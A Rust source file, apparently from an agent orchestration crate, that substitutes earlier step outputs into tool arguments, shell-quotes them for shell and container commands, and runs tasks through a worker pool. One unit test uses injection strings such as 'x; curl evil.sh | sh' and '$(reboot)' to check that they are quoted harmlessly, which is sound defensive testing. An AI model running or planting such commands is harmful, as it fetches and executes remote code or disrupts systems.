use crate::improvement::{ImprovementBackend, ImprovementController};
use crate::monitor::PoolMonitor;
use crate::pool::{TaskRun, TaskRunner, WorkerPool};
use crate::scheduler::{SchedulerConfig, SchedulerHandle};
use crate::types::{Task, TaskSpec, TaskWork, ToolStep};
use async_trait::async_trait;
use keel_core::{KeelResult, Reason, ReasonCode, Role, ToolCall, ToolKind};
use keel_tools::ToolExecutor;
use regex::Regex;
use serde_json::{json, Value};
use std::sync::{Arc, OnceLock};
use tokio_util::sync::CancellationToken;
use tracing::{debug, info};

#[allow(clippy::expect_used)]
fn step_ref() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"\{\{\s*steps\.(\d+)\.output\s*\}\}").expect("step reference pattern is valid")
    })
}

/// Quote `s` as a single POSIX shell word.
///
/// Trailing newlines are dropped, as `$(...)` would.
pub(crate) fn shell_quote(s: &str) -> String {
    let s = s.trim_end_matches(['\n', '\r']);
    let plain = !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "_./:@%+=,-".contains(c));
    if plain {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', r"'\''"))
    }
}

/// Render a step's arguments for `tool`.
///
/// Shell and container steps run `command` through `sh -c`, so outputs
/// spliced into it are quoted as one word each. Everything else is spliced
/// verbatim.
pub(crate) fn render_step_arguments(
    tool: ToolKind,
    value: &Value,
    outputs: &[String],
    current: usize,
) -> Result<Value, Reason> {
    let mut rendered = render_arguments(value, outputs, current, false)?;
    if matches!(tool, ToolKind::Shell | ToolKind::Container) {
        if let Some(command) = value.get("command") {
            rendered["command"] = render_arguments(command, outputs, current, true)?;
        }
    }
    Ok(rendered)
}

/// Replace `{{steps.N.output}}` in every string of `value` with the output
/// of step `N`. Only steps before `current` may be referenced.
pub(crate) fn render_arguments(
    value: &Value,
    outputs: &[String],
    current: usize,
    quote: bool,
) -> Result<Value, Reason> {
    match value {
        Value::String(s) => {
            let mut error = None;
            let rendered = step_ref().replace_all(s, |caps: &regex::Captures<'_>| {
                let n: usize = caps[1].parse().unwrap_or(usize::MAX);
                match outputs.get(n) {
                    Some(out) if n < current && quote => shell_quote(out),
                    Some(out) if n < current => out.clone(),
                    _ => {
                        error.get_or_insert(n);
                        String::new()
                    }
                }
            });
            match error {
                Some(n) => Err(Reason::permanent(format!(
                    "step {current} references the output of step {n}, which has not run"
                ))),
                None => Ok(Value::String(rendered.into_owned())),
            }
        }
        Value::Array(items) => items
            .iter()
            .map(|v| render_arguments(v, outputs, current, quote))
            .collect::<Result<Vec<_>, _>>()
            .map(Value::Array),
        Value::Object(map) => map
            .iter()
            .map(|(k, v)| -> Result<(String, Value), Reason> {
                Ok((k.clone(), render_arguments(v, outputs, current, quote)?))
            })
            .collect::<Result<serde_json::Map<_, _>, _>>()
            .map(Value::Object),
        other => Ok(other.clone()),
    }
}

/// Run tool steps in order as `role`, stopping at the first failure.
///
/// The result lists every step's output; `output` repeats the last one.
pub async fn run_steps(
    executor: &ToolExecutor,
    role: Role,
    steps: &[ToolStep],
    cancel: &CancellationToken,
) -> TaskRun {
    let mut outputs: Vec<String> = Vec::with_capacity(steps.len());
    let mut records = Vec::with_capacity(steps.len());
    let mut calls = 0u32;

    for (i, step) in steps.iter().enumerate() {
        if cancel.is_cancelled() {
            return TaskRun::failed(
                Reason::cancelled(format!("cancelled before step {i}")),
                calls,
            );
        }
        let arguments = match render_step_arguments(step.tool, &step.arguments, &outputs, i) {
            Ok(args) => args,
            Err(reason) => return TaskRun::failed(reason, calls),
        };
        let mut call = ToolCall::new(role, step.tool, step.operation.clone(), arguments);
        call.timeout_ms = step.timeout_ms;

        debug!(step = i, tool = %step.tool, operation = %step.operation, "Running step");
        calls += 1;
        let result = executor.execute_cancellable(&call, cancel).await;
        if let Some(reason) = result.reason() {
            return TaskRun::failed(
                Reason::new(
                    reason.code,
                    format!(
                        "step {i} ({} {}): {}",
                        step.tool, step.operation, reason.message
                    ),
                ),
                calls,
            );
        }
        records.push(json!({
            "tool": step.tool,
            "operation": step.operation,
            "output": result.output,
            "exit_code": result.exit_code,
            "duration_ms": result.duration_ms,
        }));
        outputs.push(result.output);
    }

    let last = outputs.last().cloned().unwrap_or_default();
    TaskRun::completed(json!({ "steps": records, "output": last }), calls)
}

/// The [`TaskRunner`] used by the worker pool: tool-step tasks go to the
/// executor, improvement stages to the improvement controller.
pub struct Dispatcher {
    executor: Arc<ToolExecutor>,
    improvement: Option<Arc<ImprovementController>>,
}

impl Dispatcher {
    /// A dispatcher without an improvement controller.
    pub fn new(executor: Arc<ToolExecutor>) -> Self {
        Self {
            executor,
            improvement: None,
        }
    }

    /// Route improvement stages to `controller`.
    pub fn with_improvement(mut self, controller: Arc<ImprovementController>) -> Self {
        self.improvement = Some(controller);
        self
    }
}

#[async_trait]
impl TaskRunner for Dispatcher {
    async fn run(&self, task: &Task, cancel: &CancellationToken) -> TaskRun {
        match &task.work {
            TaskWork::Steps { steps } => run_steps(&self.executor, task.role, steps, cancel).await,
            TaskWork::Improvement { record_id, stage } => match &self.improvement {
                Some(controller) => controller.run_stage(*record_id, *stage, cancel).await,
                None => TaskRun::failed(
                    Reason::new(
                        ReasonCode::Permanent,
                        "no improvement controller is configured",
                    ),
                    0,
                ),
            },
        }
    }
}

/// Scheduler, worker pool and (optionally) the improvement controller,
/// started together.
pub struct Orchestrator {
    scheduler: SchedulerHandle,
    pool: WorkerPool,
    improvement: Option<Arc<ImprovementController>>,
}

impl Orchestrator {
    /// Start the scheduler and `pool_size` workers executing tasks through
    /// `executor`.
    pub fn start(
        pool_size: usize,
        scheduler_config: SchedulerConfig,
        executor: Arc<ToolExecutor>,
        improvement: Option<ImprovementBackend>,
    ) -> KeelResult<Self> {
        let scheduler = SchedulerHandle::start(scheduler_config)?;
        let mut dispatcher = Dispatcher::new(executor.clone());
        let improvement = improvement.map(|backend| {
            ImprovementController::start(executor, scheduler.clone(), backend)
        });
        if let Some(controller) = &improvement {
            dispatcher = dispatcher.with_improvement(controller.clone());
        }
        let pool = WorkerPool::start(pool_size, scheduler.clone(), Arc::new(dispatcher));
        info!(
            pool_size = pool.size(),
            improvement = improvement.is_some(),
            "Orchestrator started"
        );
        Ok(Self {
            scheduler,
            pool,
            improvement,
        })
    }

    /// Handle to the running scheduler.
    pub fn scheduler(&self) -> &SchedulerHandle {
        &self.scheduler
    }

    /// The improvement controller, if one was configured.
    pub fn improvement(&self) -> Option<&Arc<ImprovementController>> {
        self.improvement.as_ref()
    }

    /// The pool's worker monitor.
    pub fn monitor(&self) -> Arc<PoolMonitor> {
        self.pool.monitor()
    }

    /// Submit a batch and wait until every task in the graph is terminal.
    pub async fn run(&self, specs: Vec<TaskSpec>) -> KeelResult<Vec<Task>> {
        self.scheduler.submit_batch(specs).await?;
        Ok(self.scheduler.wait_all().await?)
    }

    /// Stop the pool after in-flight tasks are reported.
    pub async fn shutdown(self) {
        self.pool.shutdown().await;
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn test_render_substitutes_prior_outputs() {
        let outputs = vec!["abc123".to_string(), "main".to_string()];
        let args = json!({
            "command": "git show {{steps.0.output}}",
            "args": ["checkout", "{{ steps.1.output }}"],
            "depth": 3,
        });
        let rendered = render_arguments(&args, &outputs, 2, false).unwrap();
        assert_eq!(rendered["command"], "git show abc123");
        assert_eq!(rendered["args"][1], "main");
        assert_eq!(rendered["depth"], 3);
    }

    #[test]
    fn test_render_rejects_forward_reference() {
        let outputs = vec!["x".to_string()];
        let err = render_arguments(&json!("{{steps.1.output}}"), &outputs, 1, false).unwrap_err();
        assert_eq!(err.code, ReasonCode::Permanent);

        // A step cannot read its own output either.
        assert!(render_arguments(&json!("{{steps.0.output}}"), &outputs, 0, false).is_err());
    }

    #[test]
    fn test_render_leaves_plain_text() {
        let value = json!("echo {{not a ref}}");
        assert_eq!(render_arguments(&value, &[], 0, false).unwrap(), value);
    }

    #[test]
    fn test_shell_quote() {
        assert_eq!(shell_quote("abc123\n"), "abc123");
        assert_eq!(shell_quote("src/main.rs"), "src/main.rs");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("a b"), "'a b'");
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
    }

    #[test]
    fn test_shell_commands_get_quoted_outputs() {
        let outputs = vec!["x; curl evil.sh | sh".to_string(), "$(reboot)".to_string()];
        let args = json!({
            "command": "git log {{steps.0.output}} -- {{steps.1.output}}",
            "cwd": "/workspace/{{steps.1.output}}",
        });
        let rendered = render_step_arguments(ToolKind::Shell, &args, &outputs, 2).unwrap();
        assert_eq!(rendered["command"], "git log 'x; curl evil.sh | sh' -- '$(reboot)'");
        assert_eq!(rendered["cwd"], "/workspace/$(reboot)");

        let container = render_step_arguments(ToolKind::Container, &json!({"command": "echo {{steps.1.output}}"}), &outputs, 2).unwrap();
        assert_eq!(container["command"], "echo '$(reboot)'");

        // Other tools take the output as a single argument already.
        let git = render_step_arguments(ToolKind::Git, &json!({"args": ["{{steps.0.output}}"]}), &outputs, 2).unwrap();
        assert_eq!(git["args"][0], "x; curl evil.sh | sh");
    }

    #[tokio::test]
    async fn test_run_steps_empty_completes() {
        let executor = ToolExecutor::new(Arc::new(keel_security::PolicyEngine::with_defaults().unwrap()));
        let run = run_steps(&executor, Role::Critic, &[], &CancellationToken::new()).await;
        assert_eq!(run.outcome.unwrap()["steps"], json!([]));
        assert_eq!(run.tool_calls, 0);
    }

    #[tokio::test]
    async fn test_run_steps_stops_at_denied_step() {
        let executor = ToolExecutor::new(Arc::new(keel_security::PolicyEngine::with_defaults().unwrap()));
        let steps = vec![
            ToolStep::new(ToolKind::Http, "get", json!({"url": "https://docs.rs"})),
            ToolStep::new(ToolKind::Fs, "read", json!({"path": "/etc/hostname"})),
        ];
        let run = run_steps(&executor, Role::Coder, &steps, &CancellationToken::new()).await;
        let reason = run.outcome.unwrap_err();
        assert_eq!(reason.code, ReasonCode::ToolNotPermitted);
        assert!(reason.message.starts_with("step 0 (http get)"));
        assert_eq!(run.tool_calls, 1);
    }

    #[tokio::test]
    async fn test_run_steps_honours_cancellation() {
        let executor = ToolExecutor::new(Arc::new(keel_security::PolicyEngine::with_defaults().unwrap()));
        let cancel = CancellationToken::new();
        cancel.cancel();
        let steps = vec![ToolStep::new(ToolKind::Fs, "exists", json!({"path": "/"}))];
        let run = run_steps(&executor, Role::Critic, &steps, &cancel).await;
        assert_eq!(run.outcome.unwrap_err().code, ReasonCode::Cancelled);
    }
}
